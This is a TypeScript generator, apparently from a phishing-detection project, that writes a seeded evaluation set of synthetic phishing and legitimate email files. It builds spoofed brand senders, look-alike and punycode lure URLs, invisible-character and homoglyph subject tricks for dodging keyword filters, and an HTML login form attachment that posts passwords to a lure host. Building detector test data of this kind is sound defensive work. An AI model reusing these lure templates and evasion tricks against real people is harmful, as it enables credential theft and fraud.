/**
 * Writes the labelled evaluation set tests/fixtures/phishing-eval/:
 *
 *   phishing/    own phishing and scam messages (text: eval-phishing-bank.ts)
 *   legitimate/  own list mail, marketing (marketing-*.eml), transactional and
 *                personal mail (eval-legit-bank.ts), plus SpamAssassin ham
 *                (sa-*.eml; never reserved, and excluded from training)
 *
 *   npx tsx scripts/phishing-model/generate-eval-set.ts
 *
 * A seeded generator varies structure, not only words: sender strategy
 * (spoofed brand domain with a foreign failing DKIM signature, look-alike
 * domain, compromised unrelated site, free mail), links (shorteners, IP
 * hosts, free hosting, punycode, odd TLDs, anchor text showing another URL),
 * bodies (plain, HTML only, multipart), padded subjects (invisible and
 * look-alike characters) and attachments (.html forms, .zip, .pdf). The same
 * seed writes the same files.
 */
import { createHash } from "node:crypto";
import { mkdirSync, readdirSync, rmSync, writeFileSync } from "node:fs";
import path from "node:path";
import { zipSync } from "fflate";
import { EVAL_DIR, corpusKey, loadCorpus, loadReserved } from "./dataset";
import { PHISH_BANK, type Cat, type Lang } from "./eval-phishing-bank";
import { LISTS, MARKETING, PERSONAL, TRANSACTIONAL } from "./eval-legit-bank";
import { buildMessage, encodeWord, mailbox, mulberry32, rfc2822Date, type Attachment } from "./mime";

const rand = mulberry32(0x5eed2026);
const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rand() * xs.length)]!;
const chance = (p: number) => rand() < p;
const int = (lo: number, hi: number) => lo + Math.floor(rand() * (hi - lo + 1));
const alnum = (n: number) => {
  const cs = "abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789";
  let s = "";
  for (let i = 0; i < n; i++) s += cs[Math.floor(rand() * cs.length)];
  return s;
};
const ip = () => `${int(23, 223)}.${int(0, 255)}.${int(0, 255)}.${int(1, 254)}`;
const randomDate = () => new Date(Date.UTC(2022, 0, 1) + Math.floor(rand() * (4.8 * 365 * 86_400_000)));

type Brand = { name: string; domain: string; langs: Lang[]; cats: Cat[] };
const BRANDS: Brand[] = [
  {
    name: "PayPal",
    domain: "paypal.com",
    langs: ["en", "de", "nl", "es", "fr", "it", "pt"],
    cats: ["account", "kyc", "refund", "invoice"],
  },
  {
    name: "Microsoft",
    domain: "microsoft.com",
    langs: ["en", "de", "nl", "es", "fr", "it", "pt"],
    cats: ["account", "mailbox", "invoice"],
  },
  {
    name: "Apple",
    domain: "apple.com",
    langs: ["en", "de", "fr", "it", "es", "pt", "nl"],
    cats: ["account", "refund", "invoice"],
  },
  {
    name: "Netflix",
    domain: "netflix.com",
    langs: ["en", "es", "pt", "fr", "de", "it", "nl"],
    cats: ["account", "invoice"],
  },
  {
    name: "Amazon",
    domain: "amazon.com",
    langs: ["en", "de", "es", "fr", "it"],
    cats: ["account", "prize", "invoice"],
  },
  { name: "Chase", domain: "chase.com", langs: ["en"], cats: ["account", "kyc"] },
  { name: "Wells Fargo", domain: "wellsfargo.com", langs: ["en"], cats: ["account", "kyc"] },
  { name: "HSBC", domain: "hsbc.co.uk", langs: ["en"], cats: ["account", "kyc"] },
  { name: "Coinbase", domain: "coinbase.com", langs: ["en", "de", "nl", "es"], cats: ["crypto", "kyc", "account"] },
  {
    name: "Binance",
    domain: "binance.com",
    langs: ["en", "pt", "es", "fr", "de", "it", "nl"],
    cats: ["crypto", "kyc"],
  },
  { name: "DHL", domain: "dhl.com", langs: ["en", "de", "nl", "es", "fr", "it", "pt"], cats: ["parcel"] },
  { name: "PostNL", domain: "postnl.nl", langs: ["nl"], cats: ["parcel"] },
  { name: "Correios", domain: "correios.com.br", langs: ["pt"], cats: ["parcel"] },
  { name: "CTT", domain: "ctt.pt", langs: ["pt"], cats: ["parcel"] },
  { name: "Correos", domain: "correos.es", langs: ["es"], cats: ["parcel"] },
  { name: "La Poste", domain: "laposte.fr", langs: ["fr"], cats: ["parcel"] },
  { name: "Poste Italiane", domain: "poste.it", langs: ["it"], cats: ["parcel", "account", "prize"] },
  { name: "Deutsche Post", domain: "deutschepost.de", langs: ["de"], cats: ["parcel"] },
  { name: "ING", domain: "ing.nl", langs: ["nl", "de", "es", "it"], cats: ["account", "kyc"] },
  { name: "Rabobank", domain: "rabobank.nl", langs: ["nl"], cats: ["account", "kyc"] },
  { name: "ABN AMRO", domain: "abnamro.nl", langs: ["nl"], cats: ["account", "kyc"] },
  { name: "Sparkasse", domain: "sparkasse.de", langs: ["de"], cats: ["account", "kyc"] },
  { name: "Deutsche Bank", domain: "deutsche-bank.de", langs: ["de"], cats: ["account", "kyc"] },
  { name: "Commerzbank", domain: "commerzbank.de", langs: ["de"], cats: ["account"] },
  { name: "Santander", domain: "santander.com.br", langs: ["pt"], cats: ["account", "kyc"] },
  { name: "Itaú", domain: "itau.com.br", langs: ["pt"], cats: ["account", "kyc"] },
  { name: "Banco do Brasil", domain: "bb.com.br", langs: ["pt"], cats: ["account", "kyc", "refund"] },
  { name: "Caixa", domain: "caixa.gov.br", langs: ["pt"], cats: ["prize", "refund", "account"] },
  { name: "Millennium BCP", domain: "millenniumbcp.pt", langs: ["pt"], cats: ["account"] },
  { name: "BBVA", domain: "bbva.es", langs: ["es"], cats: ["account", "kyc"] },
  { name: "CaixaBank", domain: "caixabank.es", langs: ["es"], cats: ["account", "kyc"] },
  { name: "Agencia Tributaria", domain: "agenciatributaria.gob.es", langs: ["es"], cats: ["refund"] },
  { name: "BNP Paribas", domain: "bnpparibas.fr", langs: ["fr"], cats: ["account", "kyc"] },
  { name: "Crédit Agricole", domain: "credit-agricole.fr", langs: ["fr"], cats: ["account"] },
  { name: "Ameli", domain: "ameli.fr", langs: ["fr"], cats: ["account", "refund"] },
  { name: "Intesa Sanpaolo", domain: "intesasanpaolo.com", langs: ["it"], cats: ["account", "kyc"] },
  { name: "UniCredit", domain: "unicredit.it", langs: ["it"], cats: ["account"] },
  { name: "HMRC", domain: "hmrc.gov.uk", langs: ["en"], cats: ["refund"] },
  { name: "Booking.com", domain: "booking.com", langs: ["en", "nl", "de"], cats: ["account", "invoice"] },
  { name: "DocuSign", domain: "docusign.net", langs: ["en", "de", "fr"], cats: ["invoice"] },
  { name: "Lidl", domain: "lidl.de", langs: ["de", "nl", "it"], cats: ["prize"] },
  { name: "Albert Heijn", domain: "ah.nl", langs: ["nl"], cats: ["prize"] },
  { name: "Carrefour", domain: "carrefour.fr", langs: ["fr", "es", "it"], cats: ["prize"] },
];
const SCAMMY: Record<"crypto" | "casino" | "prize", string[]> = {
  crypto: [
    "CryptoMax Pro",
    "Bitcoin Era",
    "Quantum AI Trade",
    "Immediate Edge",
    "BTC Profit Hub",
    "Nexus Coin Exchange",
  ],
  casino: ["Royal Spin Casino", "Lucky7 Club", "VulkanBet", "Jackpot City VIP", "Golden Reels", "Spinata Grande"],
  prize: ["Rewards Center", "Customer Survey Team", "Loyalty Program", "Premium Gifts", "Winner Notification Office"],
};
const ODD_TLDS = [
  "top",
  "xyz",
  "click",
  "icu",
  "shop",
  "online",
  "live",
  "buzz",
  "cfd",
  "sbs",
  "rest",
  "monster",
  "support",
  "info",
  "cc",
  "ru",
  "cn",
  "pw",
  "gq",
  "vip",
];
const SHORT = [
  "bit.ly",
  "tinyurl.com",
  "cutt.ly",
  "t.ly",
  "rb.gy",
  "is.gd",
  "shorturl.at",
  "rebrand.ly",
  "s.id",
  "tiny.cc",
  "qrco.de",
];
const FREEHOST = [
  "web.app",
  "firebaseapp.com",
  "netlify.app",
  "pages.dev",
  "workers.dev",
  "glitch.me",
  "vercel.app",
  "weebly.com",
  "wixsite.com",
  "000webhostapp.com",
  "r2.dev",
  "github.io",
  "ipfs.io",
];
const COMPROMISED = [
  "www.bloemenhuis-amber.nl",
  "www.taller-mecanico-ruiz.es",
  "www.pizzeria-da-gino.it",
  "www.kanzlei-weber-partner.de",
  "www.sunshine-dental-care.com.au",
  "www.padaria-central.com.br",
  "www.cabinet-dupont-avocats.fr",
  "www.lakeside-golf-resort.co.za",
  "www.hotel-alpenblick.at",
  "www.greenfield-church.org",
];
const FREEMAIL = [
  "gmail.com",
  "outlook.com",
  "hotmail.com",
  "yahoo.com",
  "aol.com",
  "gmx.de",
  "mail.ru",
  "yandex.com",
  "proton.me",
  "zoho.com",
];
const NAMES: Record<Lang, string[]> = {
  en: ["James", "Emily", "Michael", "Sarah", "David", "Laura"],
  pt: ["João", "Maria", "Ana", "Carlos", "Fernanda", "Rui"],
  de: ["Thomas", "Sabine", "Stefan", "Julia", "Andreas", "Petra"],
  nl: ["Jan", "Anouk", "Pieter", "Sanne", "Bram", "Lotte"],
  es: ["Javier", "Lucía", "Antonio", "Carmen", "Pablo", "Elena"],
  fr: ["Nicolas", "Camille", "Pierre", "Marie", "Julien", "Chloé"],
  it: ["Marco", "Giulia", "Luca", "Francesca", "Matteo", "Chiara"],
};
const CURRENCY: Record<Lang, (n: number) => string> = {
  en: (n) => `$${n.toLocaleString("en-US")}.00`,
  pt: (n) => `R$ ${n.toLocaleString("pt-BR")},00`,
  de: (n) => `${n.toLocaleString("de-DE")},00 €`,
  nl: (n) => `€ ${n.toLocaleString("nl-NL")},00`,
  es: (n) => `${n.toLocaleString("es-ES")},00 €`,
  fr: (n) => `${n.toLocaleString("fr-FR")},00 €`,
  it: (n) => `${n.toLocaleString("it-IT")},00 €`,
};
const HOMOGLYPH: Record<string, string> = { a: "а", e: "е", o: "о", p: "р", c: "с", x: "х", i: "і", y: "у" };
const INVISIBLE = ["\u200b", "\u200c", "\u200d", "\u2060", "\u00ad", "\ufeff"];

function slug(s: string): string {
  return s
    .normalize("NFKD")
    .replace(/[\u0300-\u036f]/g, "")
    .toLowerCase()
    .replace(/[^a-z0-9]+/g, "");
}

function fill(s: string, v: Record<string, string>): string {
  return s.replace(/\{(\w+)\}/g, (_, k: string) => v[k] ?? "");
}

/** The link a lure points at, in one of several styles seen in the wild. */
function lureUrl(brand: string, cat: Cat): { url: string; style: string } {
  const b = slug(brand) || "secure";
  const word = pick([
    "login",
    "verify",
    "secure",
    "account",
    "update",
    "auth",
    "support",
    "portal",
    "confirm",
    "service",
  ]);
  const pathWord = pick([
    "signin",
    "login.php",
    "verify",
    "index.html",
    "update/account",
    "auth/session",
    "claim",
    "pay",
    "track",
    "kyc/form",
    "",
  ]);
  const style = pick([
    "shortener",
    "ip",
    "freehost",
    "lookalike",
    "oddtld",
    "compromised",
    "punycode",
    "lookalike",
    "oddtld",
    "shortener",
  ]);
  switch (style) {
    case "shortener":
      return { url: `https://${pick(SHORT)}/${alnum(int(5, 8))}`, style };
    case "ip":
      return { url: `http://${ip()}${chance(0.4) ? `:${pick([8080, 8443, 2096])}` : ""}/${b}/${pathWord}`, style };
    case "freehost":
      return { url: `https://${b}-${word}-${alnum(4).toLowerCase()}.${pick(FREEHOST)}/${pathWord}`, style };
    case "lookalike":
      return {
        url: `https://${pick([`${b}-${word}`, `${word}-${b}`, `${b}${word}`, `my${b}-${word}`])}.${pick(["com", "net", "info", "co", "app"])}/${pathWord}?id=${alnum(10)}`,
        style,
      };
    case "oddtld":
      return {
        url: `https://${pick([b, word, cat])}${pick(["-", ""])}${pick(["online", "center", "hub", "id", "now", "web"])}.${pick(ODD_TLDS)}/${pathWord}`,
        style,
      };
    case "compromised":
      return {
        url: `https://${pick(COMPROMISED)}/wp-content/${pick(["uploads", "plugins/akismet", "themes/twentytwenty"])}/${b}/${pathWord || "index.php"}`,
        style,
      };
    default:
      return {
        url: `https://xn--${b.slice(0, 4)}${alnum(3).toLowerCase()}-${alnum(4).toLowerCase()}.com/${pathWord}`,
        style,
      };
  }
}

function padSubject(s: string): { subject: string; trick: string } {
  const r = rand();
  if (r < 0.12) {
    // Invisible characters between letters: keyword filters see no words.
    let out = "";
    for (const ch of s) out += ch + (ch !== " " && chance(0.5) ? pick(INVISIBLE) : "");
    return { subject: out, trick: "invisible" };
  }
  if (r < 0.2) {
    let out = "";
    for (const ch of s) out += chance(0.35) && HOMOGLYPH[ch] ? HOMOGLYPH[ch] : ch;
    return { subject: out, trick: "homoglyph" };
  }
  if (r < 0.27) return { subject: `${s} ${"\u200b".repeat(int(8, 30))}${alnum(6)}`, trick: "padding" };
  if (r < 0.35) return { subject: `${pick(["⚠️", "🎁", "✅", "🔒", "📦", "💰", "🎉"])} ${s}`, trick: "emoji" };
  if (r < 0.4) return { subject: s.toUpperCase(), trick: "caps" };
  if (r < 0.46) return { subject: `RE: ${s}`, trick: "fake-reply" };
  if (r < 0.5) return { subject: `${s} [${alnum(4)}-${int(1000, 9999)}]`, trick: "ref" };
  return { subject: s, trick: "" };
}

function htmlPage(title: string, action: string): string {
  return `<!DOCTYPE html><html><head><meta charset="utf-8"><title>${title}</title></head><body><div style="max-width:380px;margin:40px auto;font-family:Arial">
<h2>${title}</h2><form method="POST" action="${action}"><input type="email" name="login" placeholder="Email"><input type="password" name="passwd" placeholder="Password">
<button type="submit">Sign in</button></form><script>document.querySelector('input[name=login]').value=atob(location.hash.slice(1)||'')</script></div></body></html>`;
}

function escapeHtml(s: string): string {
  return s.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;");
}

function recipient(lang: Lang): { name: string; address: string } {
  const name = pick(NAMES[lang]);
  const dom = pick(["example.com", "example.net", "example.org", "mail.example.com", "inbox.example.net"]);
  return { name, address: `${slug(name)}.${slug(pick(NAMES[lang]))}${int(1, 99)}@${dom}` };
}

function receivedChain(fromHost: string, fromIp: string, date: Date, to: string): [string, string][] {
  const id = alnum(12);
  return [
    [
      "Received",
      `from ${fromHost} (${fromHost} [${fromIp}])\r\n\tby mx1.example.net (Postfix) with ESMTPS id ${id}\r\n\tfor <${to}>; ${rfc2822Date(date, 0)}`,
    ],
  ];
}

function phishingMessage(n: number, lang: Lang): { name: string; raw: string } {
  const bank = PHISH_BANK[lang];
  const cats = Object.keys(bank.cats) as Cat[];
  const cat = pick(cats);
  const candidates = BRANDS.filter((b) => b.langs.includes(lang) && b.cats.includes(cat));
  const realBrand = candidates.length ? pick(candidates) : null;
  const brandName = realBrand
    ? realBrand.name
    : pick(SCAMMY[cat === "casino" ? "casino" : cat === "crypto" ? "crypto" : "prize"]);
  const to = recipient(lang);
  const date = randomDate();
  const amount = CURRENCY[lang](pick([250, 500, 750, 1000, 1500, 2500, 5000, 10000, 850, 1250]));
  const deadlineDate = new Date(date.getTime() + 2 * 86_400_000).toISOString().slice(0, 10);
  const vars = {
    brand: brandName,
    name: chance(0.4) ? to.name : to.address.split("@")[0]!,
    amount,
    id: `${alnum(2).toUpperCase()}-${int(100000, 999999)}`,
    date: deadlineDate,
    deadline: "",
  };
  vars.deadline = fill(pick(bank.deadline), vars);
  const c = bank.cats[cat]!;
  const { subject, trick } = padSubject(fill(pick(c.subj), vars));
  const lure = lureUrl(brandName, cat);

  // Sender strategy.
  const strategy = realBrand
    ? pick(["spoofed", "spoofed", "lookalike", "unrelated", "freemail", "display"])
    : pick(["lookalike", "unrelated", "freemail", "display"]);
  const b = slug(brandName);
  let fromAddr: string;
  let fromName = brandName;
  const headers: [string, string][] = [];
  const senderIp = ip();
  let mailfromDomain: string;
  let ar: string | null;
  const foreignDkim = pick([
    `${alnum(6).toLowerCase()}.${pick(ODD_TLDS)}`,
    pick(COMPROMISED).replace("www.", ""),
    `mailer${int(1, 99)}.${pick(["ru", "cn", "xyz", "top"])}`,
    "sendgrid.net",
    "amazonses.com",
  ]);
  switch (strategy) {
    case "spoofed":
      fromAddr = `${pick(["no-reply", "service", "security", "support", "alert", "info"])}@${realBrand!.domain}`;
      fromName = pick([brandName, `${brandName} ${pick(["Security", "Support", "Service", "Online"])}`]);
      mailfromDomain = pick([foreignDkim, realBrand!.domain]);
      ar = `mx1.example.net; spf=${pick(["none", "softfail", "none", "neutral"])} smtp.mailfrom=${mailfromDomain}; dkim=${pick(["fail", "fail", "neutral"])} (signature did not verify) header.d=${foreignDkim} header.s=${pick(["s1", "default", "k1", "mail"])}; dmarc=${pick(["none", "none", "fail"])} header.from=${realBrand!.domain}`;
      break;
    case "lookalike": {
      const dom = `${pick([`${b}-${pick(["secure", "service", "support", "verify", "online", "help"])}`, `${b}${pick(["mail", "notice", "info", "-id"])}`, `${b.replace(/l/, "1").replace(/o/, "0")}`])}.${pick(["com", "net", ...ODD_TLDS.slice(0, 6)])}`;
      fromAddr = `${pick(["no-reply", "service", "support", "info", "team"])}@${dom}`;
      mailfromDomain = dom;
      ar = `mx1.example.net; spf=pass smtp.mailfrom=${dom}; dkim=${pick(["pass", "none"])} header.d=${dom}; dmarc=${pick(["pass", "none"])} header.from=${dom}`;
      break;
    }
    case "unrelated": {
      const dom = pick(COMPROMISED).replace("www.", "");
      fromAddr = `${pick(["info", "admin", "contact", "wordpress", "office", "noreply"])}@${dom}`;
      mailfromDomain = dom;
      ar = `mx1.example.net; spf=${pick(["pass", "softfail", "none"])} smtp.mailfrom=${dom}; dkim=none; dmarc=${pick(["none", "fail"])} header.from=${dom}`;
      break;
    }
    case "freemail": {
      const dom = pick(FREEMAIL);
      fromAddr = `${b}${pick([".support", "-service", ".team", "helpdesk", ""])}${int(1, 999)}@${dom}`;
      fromName = pick([`${brandName} Support`, `${brandName}`, `Service ${brandName}`]);
      mailfromDomain = dom;
      ar = `mx1.example.net; spf=pass smtp.mailfrom=${dom}; dkim=pass header.d=${dom}; dmarc=pass header.from=${dom}`;
      break;
    }
    default: {
      // Display name carries the brand; the address is a random bulk sender.
      const dom = `${alnum(7).toLowerCase()}.${pick(ODD_TLDS)}`;
      fromAddr = `${alnum(8).toLowerCase()}@${dom}`;
      fromName = pick([
        `${brandName} <service@${realBrand?.domain ?? b + ".com"}>`,
        `${brandName} Customer Care`,
        `${brandName}`,
      ]);
      mailfromDomain = dom;
      ar = chance(0.3)
        ? null
        : `mx1.example.net; spf=${pick(["pass", "none"])} smtp.mailfrom=${dom}; dkim=none; dmarc=none header.from=${dom}`;
    }
  }
  if (chance(0.15)) fromName = [...fromName].map((ch) => (chance(0.3) && HOMOGLYPH[ch] ? HOMOGLYPH[ch]! : ch)).join("");

  headers.push(["Return-Path", `<bounce-${alnum(8).toLowerCase()}@${mailfromDomain}>`]);
  // The relay that handed the message over is the sender's own, never the brand's.
  const relay =
    strategy === "spoofed"
      ? `${pick(["vps", "srv", "host", "mail"])}${int(1, 999)}.${foreignDkim}`
      : `mail.${mailfromDomain}`;
  headers.push(...receivedChain(relay, senderIp, date, to.address));
  if (ar) headers.push(["Authentication-Results", ar]);
  if (strategy === "spoofed" && chance(0.5))
    headers.push([
      "DKIM-Signature",
      `v=1; a=rsa-sha256; c=relaxed/relaxed; d=${foreignDkim}; s=default; h=from:to:subject:date; bh=${alnum(43)}=; b=${alnum(120)}`,
    ]);
  headers.push(["From", mailbox(fromName, fromAddr)]);
  headers.push(["To", chance(0.8) ? mailbox(chance(0.5) ? to.name : "", to.address) : "undisclosed-recipients:;"]);
  headers.push(["Subject", encodeWord(subject)]);
  headers.push(["Date", rfc2822Date(date, pick([0, 60, 120, -300, -180, 180, 330, 480]))]);
  headers.push([
    "Message-ID",
    `<${alnum(16)}.${int(1000, 9999)}@${pick([mailfromDomain, "localhost", `${alnum(5).toLowerCase()}.local`])}>`,
  ]);
  if (chance(0.3) || cat === "invoice" || cat === "prize")
    if (chance(0.6))
      headers.push([
        "Reply-To",
        `<${slug(brandName).slice(0, 8)}${pick([".claims", ".billing", ".desk", "agent"])}${int(1, 99)}@${pick(FREEMAIL)}>`,
      ]);
  if (chance(0.2))
    headers.push(["X-Mailer", pick(["PHPMailer 6.5.0", "Microsoft Outlook 16.0", "Leaf PHPMailer", "Sendinblue"])]);

  // Body.
  const greet = fill(pick(bank.greet), vars);
  const paras = [fill(pick(c.body), vars)];
  if (chance(0.75)) paras.push(fill(pick(bank.pressure), vars));
  const cta = pick(bank.cta);
  const sign = fill(pick(bank.sign), vars);
  const rights: Record<Lang, string> = {
    en: "All rights reserved.",
    pt: "Todos os direitos reservados.",
    de: "Alle Rechte vorbehalten.",
    nl: "Alle rechten voorbehouden.",
    fr: "Tous droits réservés.",
    it: "Tutti i diritti riservati.",
    es: "Todos los derechos reservados.",
  };
  const footer = chance(0.4) ? `© ${date.getUTCFullYear()} ${brandName}. ${rights[lang]}` : "";
  const shownUrl = realBrand
    ? `https://www.${realBrand.domain}/${pick(["security", "account", "login", "verify"])}`
    : lure.url;
  const form = chance(0.25) ? "html" : chance(0.5) ? "multipart" : "plain";
  const attachments: Attachment[] = [];
  const att = rand();
  if (att < 0.14) {
    attachments.push({
      filename: pick([
        `${pick(["Invoice", "Payment_Advice", "Remittance", "Document", "Secure_Message", "Voicemail"])}_${int(1000, 99999)}.${pick(["html", "htm", "shtml"])}`,
        `Scan_${int(100, 999)}.pdf.html`,
      ]),
      contentType: "text/html",
      content: htmlPage(
        brandName,
        lure.url.replace(
          /^https:\/\/(bit\.ly|tinyurl\.com|[a-z.]+\.(ly|gd|at|cc|id|de))\//,
          `https://${alnum(6).toLowerCase()}.${pick(ODD_TLDS)}/`,
        ) + "/next.php",
      ),
    });
  } else if (att < 0.22) {
    const inner = chance(0.5)
      ? {
          [`${pick(["Invoice", "Rechnung", "Factura", "Fattura", "Factuur", "Fatura"])}_${int(1000, 9999)}.pdf.exe`]:
            new Uint8Array(Buffer.from("MZ\x90\x00 placeholder, not a program")),
        }
      : { [`document_${int(100, 999)}.html`]: new Uint8Array(Buffer.from(htmlPage(brandName, lure.url))) };
    attachments.push({
      filename: `${pick(["Invoice", "Documents", "Order", "Scan"])}_${int(1000, 9999)}.zip`,
      contentType: "application/zip",
      content: Buffer.from(zipSync(inner, { mtime: new Date(Date.UTC(2024, 0, 1)) })),
    });
  } else if (att < 0.27) {
    attachments.push({
      filename: `${pick(["Invoice", "Statement", "Notice"])}_${int(1000, 9999)}.pdf`,
      contentType: "application/pdf",
      content: `%PDF-1.4\n1 0 obj<</Type/Annot/Subtype/Link/A<</S/URI/URI(${lure.url})>>>>endobj\n%%EOF\n`,
    });
  }
  const linkInText = attachments.length && chance(0.5) ? "" : `${cta}: ${lure.url}`;
  const text = [greet, "", ...paras.flatMap((p) => [p, ""]), linkInText, "", sign, footer]
    .filter((l, i, a) => l !== "" || a[i - 1] !== "")
    .join("\n");
  const anchorText = chance(0.35) ? shownUrl : cta;
  const html =
    `<html><head><meta charset="utf-8"><style>.btn{background:#0070ba;color:#fff;padding:10px 18px;text-decoration:none}</style></head><body>` +
    (chance(0.3)
      ? `<div style="display:none;font-size:0">${alnum(40)} ${escapeHtml(pick(["newsletter", "hello", "thanks", "meeting notes"]))}</div>`
      : "") +
    `<table width="600"><tr><td><img src="https://${pick(COMPROMISED).replace("www.", "")}/logo.png" alt="${escapeHtml(brandName)}"></td></tr><tr><td>` +
    `<p>${escapeHtml(greet)}</p>${paras.map((p) => `<p>${escapeHtml(p)}</p>`).join("")}` +
    (linkInText ? `<p><a class="btn" href="${lure.url}">${escapeHtml(anchorText)}</a></p>` : "") +
    `<p>${escapeHtml(sign)}</p>${footer ? `<p style="font-size:11px;color:#888">${escapeHtml(footer)}</p>` : ""}</td></tr></table></body></html>`;
  const raw = buildMessage(
    {
      headers,
      text: form === "html" ? undefined : text,
      html: form === "plain" ? undefined : html,
      attachments,
      encoding: pick(["base64", "quoted-printable", "8bit"] as const),
    },
    alnum(12),
  );
  return { name: `${String(n).padStart(3, "0")}-${lang}-${cat}-${strategy}${trick ? "-" + trick : ""}.eml`, raw };
}

// ---------------------------------------------------------------------------
// Legitimate mail
// ---------------------------------------------------------------------------
const GENERIC_MARKETING: Record<string, [string, string][]> = {
  en: [
    [
      "Our autumn collection has arrived",
      "New season, new favourites. Discover what's just landed and enjoy free returns on every order.",
    ],
    [
      "Thank you for being with us - here's 10% off",
      "As a thank-you for your loyalty, enjoy 10% off your next order this week. No code needed.",
    ],
  ],
  de: [
    [
      "Neu im Sortiment: unsere Herbstkollektion",
      "Entdecken Sie jetzt die neuen Highlights der Saison. Kostenloser Rückversand für alle Bestellungen.",
    ],
  ],
  nl: [
    [
      "Nieuw binnen: onze herfstcollectie",
      "Ontdek de nieuwste items van dit seizoen. Gratis retourneren bij elke bestelling.",
    ],
  ],
  pt: [["Chegou a nova coleção", "Confira as novidades da estação com condições especiais para clientes cadastrados."]],
  es: [
    [
      "Ya está aquí la nueva colección",
      "Descubre las novedades de la temporada. Devoluciones gratuitas en todos los pedidos.",
    ],
  ],
  fr: [
    [
      "La nouvelle collection est arrivée",
      "Découvrez les nouveautés de la saison. Retours gratuits sur toutes les commandes.",
    ],
  ],
  it: [["È arrivata la nuova collezione", "Scopri le novità di stagione. Resi gratuiti su tutti gli ordini."]],
};
const UNSUB: Record<string, string> = {
  en: "You are receiving this email because you subscribed to our newsletter. Unsubscribe | Manage preferences | Privacy policy",
  de: "Sie erhalten diese E-Mail, weil Sie unseren Newsletter abonniert haben. Abmelden | Einstellungen | Datenschutz",
  nl: "Je ontvangt deze e-mail omdat je je hebt aangemeld voor onze nieuwsbrief. Afmelden | Voorkeuren | Privacy",
  pt: "Você recebeu este e-mail porque se cadastrou em nossa newsletter. Descadastrar | Preferências | Privacidade",
  es: "Recibes este correo porque te suscribiste a nuestro boletín. Darse de baja | Preferencias | Privacidad",
  fr: "Vous recevez cet e-mail car vous êtes inscrit à notre newsletter. Se désabonner | Préférences | Confidentialité",
  it: "Ricevi questa email perché sei iscritto alla nostra newsletter. Annulla iscrizione | Preferenze | Privacy",
};

function alignedAuth(domain: string, mailfrom: string): string {
  return `mx.example.org; spf=pass smtp.mailfrom=${mailfrom}; dkim=pass header.d=${domain} header.s=${pick(["s1", "k1", "selector1", "scph0123", "google"])}; dmarc=pass (p=${pick(["reject", "quarantine", "none"])}) header.from=${domain}`;
}

function marketingMessage(
  n: number,
  m: (typeof MARKETING)[number],
  subject: string,
  body: string,
): { name: string; raw: string } {
  const date = randomDate();
  const to = recipient(m.lang as Lang);
  const fromDomain = m.from.split("@")[1]!;
  const bounce = `bounce.${fromDomain}`;
  const click = `https://${pick([`click.${fromDomain}`, `links.${fromDomain}`, m.linkHost])}/${pick(["c", "ls/click", "track"])}?upn=${alnum(48)}`;
  const web = `https://${m.linkHost}/${pick(["deals", "sale", "new", "offers", "campaign/autumn"])}?utm_source=newsletter&utm_medium=email&utm_campaign=${alnum(8).toLowerCase()}`;
  const unsub = `https://${m.linkHost}/${pick(["unsubscribe", "newsletter/unsubscribe", "preferences"])}?u=${alnum(24)}`;
  const headers: [string, string][] = [
    ["Return-Path", `<${alnum(10).toLowerCase()}@${bounce}>`],
    ...receivedChain(`${pick(["mta", "o1", "mail", "smtp"])}${int(1, 40)}.${bounce}`, ip(), date, to.address),
    ["Authentication-Results", alignedAuth(m.domain, bounce)],
  ];
  // No DKIM-Signature header here: a made-up one would fail its body hash, which real bulk mail
  // from the brand's own platform does not; the receiving server's verdict above stands for it.
  if (chance(0.5)) headers.push(["X-Campaign-ID", `${alnum(6)}-${alnum(10)}`]);
  headers.push(
    ["From", mailbox(m.brand, m.from)],
    ["To", to.address],
    ["Subject", encodeWord(chance(0.15) ? `${pick(["🔥", "⏰", "🎁", "☀️", "🛒"])} ${subject}` : subject)],
    ["Date", rfc2822Date(date, pick([0, 60, 120, -300]))],
    ["Message-ID", `<${alnum(20)}@${fromDomain}>`],
    ["List-Unsubscribe", `<${unsub}>, <mailto:unsubscribe@${bounce}?subject=unsubscribe>`],
    ["List-Unsubscribe-Post", "List-Unsubscribe=One-Click"],
  );
  if (chance(0.5)) headers.push(["Precedence", "bulk"]);
  if (chance(0.3))
    headers.push(["Feedback-ID", `${alnum(6)}:${alnum(4)}:${pick(["sendgrid", "salesforce", "braze", "mailchimp"])}`]);
  const unsubText = UNSUB[m.lang] ?? UNSUB.en!;
  const html =
    `<!DOCTYPE html><html><head><meta charset="utf-8"></head><body style="margin:0"><center><table width="600" role="presentation">` +
    `<tr><td><a href="${web}"><img src="https://${m.linkHost}/img/header.png" alt="${escapeHtml(m.brand)}" width="600"></a></td></tr>` +
    `<tr><td><h1>${escapeHtml(subject)}</h1><p>${escapeHtml(body)}</p><p><a href="${click}" style="background:#111;color:#fff;padding:12px 20px">${escapeHtml(pick(["Shop now", "Discover more", "Jetzt entdecken", "Bekijk", "Ver ofertas", "Découvrir", "Scopri", "Confira"]))}</a></p></td></tr>` +
    `<tr><td style="font-size:11px;color:#666">${escapeHtml(unsubText).replace(/^(.*?)(Unsubscribe|Abmelden|Afmelden|Descadastrar|Darse de baja|Se désabonner|Annulla iscrizione)/, `$1<a href="${unsub}">$2</a>`)}<br>${escapeHtml(m.brand)}, ${pick(["Amsterdam", "Berlin", "Seattle", "Madrid", "Paris", "Milano", "São Paulo", "Delft"])}<br><a href="https://${m.linkHost}/privacy">Privacy</a></td></tr></table></center>` +
    `<img src="https://${pick([`open.${fromDomain}`, m.linkHost])}/o/${alnum(30)}.gif" width="1" height="1" alt=""></body></html>`;
  const text = `${subject}\n\n${body}\n\n${web}\n\n${unsubText}\n${unsub}\n`;
  const raw = buildMessage(
    { headers, text: chance(0.6) ? text : undefined, html, encoding: pick(["quoted-printable", "base64"] as const) },
    alnum(12),
  );
  return { name: `marketing-${String(n).padStart(3, "0")}-${m.lang}-${slug(m.brand)}.eml`, raw };
}

function listMessage(n: number, l: (typeof LISTS)[number]): { name: string; raw: string } {
  const [listId, listAddr, lang, subject, author, authorDomain, body] = l;
  const date = randomDate();
  const listDomain = listAddr.split("@")[1]!;
  const authorAddr = `${slug(author.split(" ")[0]!)}.${slug(author.split(" ").slice(-1)[0]!)}@${authorDomain}`;
  const viaList = author.includes(" via ");
  const headers: [string, string][] = [
    ["Return-Path", `<${listAddr.replace("@", "-bounces+" + alnum(6).toLowerCase() + "@")}>`],
